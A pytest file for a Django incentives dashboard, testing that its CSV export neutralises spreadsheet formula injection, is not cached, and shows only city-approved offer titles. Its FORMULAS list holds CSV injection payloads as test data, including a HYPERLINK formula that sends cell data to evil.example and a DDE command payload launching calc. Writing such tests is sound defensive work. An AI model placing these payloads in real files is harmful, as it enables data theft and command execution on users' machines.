"""The export is safe to open: no cell runs as a spreadsheet formula, nothing is cached on
the way, and an offer title shows as the city last approved it."""

import csv
import io

import pytest
from django.test import Client

from incentives.dashboard.rollup import rebuild_rollups
from incentives.dashboard.views import neutralise
from merchants import services
from tests.merchants.factories import merchant_staff

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我领取")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def export(user, history) -> list[list[str]]:
    client = Client()
    client.force_login(user)
    response = client.get(
        "/dashboard/export.csv",
        {"date_from": history.first_day.isoformat(), "date_to": history.today.isoformat()},
    )
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value
    assert neutralise(42) == 42 and neutralise(-3) == -3  # numbers stay numbers
    assert neutralise("西湖画舫 =1") == "西湖画舫 =1"


def test_merchant_and_offer_names_cannot_become_live_formulas(history, staff):
    from merchants.models import Offer

    names = iter(FORMULAS)
    renamed = {}
    for key in ("hz-boat", "hz-hotel", "hz-food"):
        merchant = history.merchants[key]
        merchant.name = next(names)
        merchant.save()
        renamed[merchant.name] = merchant
    for key in ("hz-boat-1", "hz-hotel-1", "hz-food-1"):
        Offer.objects.filter(pk=history.offers[key].pk).update(title=next(names))
    rebuild_rollups(date_from=history.first_day, date_to=history.today)
    cells = [cell for row in export(staff["330100"], history) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    shown = {c[1:] for c in cells if c.startswith("'")}
    assert set(FORMULAS) <= shown


def test_the_export_shows_the_title_the_city_approved(history, staff):
    offer = history.offers["hz-boat-1"]
    approved = offer.title
    services.revise_offer(
        actor=merchant_staff(offer.merchant), offer=offer, changes={"title": "未审核的新标题"}
    )
    rebuild_rollups(date_from=history.first_day, date_to=history.today)
    cells = {cell for row in export(staff["330100"], history) for cell in row}
    assert approved in cells and "未审核的新标题" not in cells


def test_the_dashboard_page_is_not_cached(history, staff):
    client = Client()
    client.force_login(staff["330100"])
    response = client.get("/dashboard/")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
